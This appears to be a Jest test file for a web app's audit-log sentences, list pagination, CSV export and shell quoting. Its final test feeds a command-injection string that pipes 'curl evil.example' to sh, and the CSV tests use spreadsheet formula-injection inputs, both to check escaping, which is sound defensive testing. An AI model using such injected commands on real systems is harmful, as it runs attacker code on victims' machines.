import { describe, expect, test } from '@jest/globals';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { auditSentence, auditTypes, otherUser, type AuditEvent } from '../../web/accounts/audit-sentence.ts';
import { collectPages } from '../../web/app/collect-pages.ts';
import { csvOf } from '../../web/ui/csv.ts';
import { shellQuoted } from '../../web/ui/shell-quoted.ts';
import { root } from '../support/process.ts';

const event = (type: string, rest: Partial<AuditEvent> = {}): AuditEvent => ({
  id: 'event',
  at: '2026-01-01T00:00:00.000Z',
  type,
  outcome: 'SUCCESS',
  actor: { id: 'ada', displayName: 'Ada' },
  subjectId: 'ada',
  ipAddress: '192.0.2.1',
  userAgent: null,
  requestId: null,
  details: null,
  ...rest,
});

describe('The sentences of the audit log:', () => {
  test('every type of event has one, and so stands in the filter', () => {
    const [, union = ''] =
      /export type EventType =(.*?);/s.exec(readFileSync(join(root, 'src/audit/record.ts'), 'utf8')) ?? [];
    const known = [...union.matchAll(/'([a-z_.]+)'/g)].map(([, type = '']) => type);
    expect(known).toHaveLength(51);
    expect(auditTypes).toEqual(known.toSorted());
    for (const type of known) {
      expect(auditSentence(event(type))).not.toContain(type);
      expect(auditSentence(event(type, { subjectId: 'bo' }), new Map([['bo', 'Bo']]))).not.toMatch(/[{|}%]/);
    }
  });

  const names = new Map([['bo', 'Bo {$&|%}']]);
  test.each([
    ['names the other user', { subjectId: 'bo' }, 'Ada disabled the account of Bo {$&|%}'],
    ['says that there was one whose name is not known', { subjectId: 'cy' }, 'Ada disabled an account'],
    ['calls a caller without an account unknown', { actor: null }, 'An unknown caller disabled an account'],
    ['calls who has no IP address the server', { actor: null, ipAddress: null }, 'The server disabled an account'],
    [
      'adds few details',
      { details: { from: ['VIEWER'], to: [], systemWork: 'x' } },
      'Ada disabled an account (from VIEWER, to none)',
    ],
  ])('a sentence %s', (_, rest, sentence) => {
    expect(auditSentence(event('user.disabled', rest), names)).toBe(sentence);
  });

  test('no name is asked for what was done to oneself, or to what is no user', () => {
    expect(otherUser(event('user.disabled', { subjectId: 'bo' }))).toBe('bo');
    expect(otherUser(event('user.disabled'))).toBeUndefined();
    expect(otherUser(event('api_key.revoked', { subjectId: 'key' }))).toBeUndefined();
  });
});

describe('The pages of a list', () => {
  const list = (length: number) => async (after: string | null) => {
    const from = Number(after ?? 0);
    const rows = Array.from({ length: Math.min(10, length - from) }, (_, index) => from + index);
    return { rows, pageInfo: { hasNextPage: from + 10 < length, endCursor: String(from + 10) } };
  };

  test.each([
    [25, 100, 25, false],
    [25, 20, 20, true],
    [25, 15, 15, true],
    [20, 20, 20, false],
    [0, 20, 0, false],
  ])('of %d rows are collected up to %d', async (length, bound, collected, hasMore) => {
    const counts: number[] = [];
    const all = await collectPages(list(length), bound, (count) => counts.push(count));
    expect(all).toEqual({ rows: Array.from({ length: collected }, (_, index) => index), hasMore });
    expect(counts.every((count, index) => count === (index + 1) * 10)).toBe(true);
  });
});

describe('What is copied or saved runs nowhere:', () => {
  test.each([
    ['=SUM(A1)', "'=SUM(A1)"],
    ['x;=SUM(A1)', `"x;'=SUM(A1)"`],
    ['x\n@SUM(A1)', `"x\n'@SUM(A1)"`],
    ['＋SUM(A1)', "'＋SUM(A1)"],
    ['\tx', `"'\tx"`],
    ['a-b, c=d', '"a-b, c=d"'],
  ])('no cell is a formula, not behind a separator either: %j', (text, cell) => {
    expect(csvOf([[text, 'next']])).toBe(`${cell},next\r\n`);
  });

  test('no text ends the quotes of a command', () => {
    expect(shellQuoted("scopes:a';curl evil.example|sh;'")).toBe(`'scopes:a'\\'';curl evil.example|sh;'\\'''`);
  });
});
